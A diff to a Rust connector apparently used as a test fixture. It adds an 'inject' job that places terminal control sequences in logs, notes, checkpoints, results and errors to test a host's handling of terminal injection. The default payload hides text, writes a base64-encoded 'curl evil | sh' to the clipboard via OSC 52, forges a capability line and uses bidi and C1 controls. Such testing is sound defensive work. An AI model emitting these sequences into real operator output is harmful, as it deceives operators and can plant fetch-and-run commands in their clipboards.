@@ -347,6 +347,33 @@ fn connector() -> Connector {
                 Ok(json!({ "found": found.len() }))
             },
         )
+        // Terminal injection (issue 8, item 2): every text this job leaves
+        // for the operator carries `text` (by default: a hidden-text switch,
+        // an OSC 52 clipboard write, a forged capability line, a bidi
+        // override, a C1 control) in a log line, a record value, a link's
+        // external id, a checkpoint note, and its result or (`fail`) its error.
+        .job(
+            "inject",
+            "Leaves `text` (terminal control sequences) in its log, a linked note, a \
+             checkpoint, and its result or, with `fail`, its error",
+            |ctx, payload| {
+                let text = payload["text"].as_str().unwrap_or(
+                    "\x1b[8mhidden\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\n  network: none\u{202e}\u{9b}2J",
+                );
+                ctx.info_log(&format!("log {text}"));
+                // One external id per job: two runs at once must not collide.
+                // (Not `text`: the host refuses control characters in ids.)
+                let external = format!("ext {}", ctx.job_id().unwrap_or_default());
+                let note = ctx
+                    .no_export()
+                    .create_linked("note", &json!({ "text": text }), &external)?;
+                ctx.checkpoint("note", note, &format!("note {text}"))?;
+                if payload["fail"].as_bool() == Some(true) {
+                    return Err(Error::fatal(format!("error {text}")));
+                }
+                Ok(json!({ "result": text }))
+            },
+        )
 }
 
 ferry_sdk::export_connector!(connector);
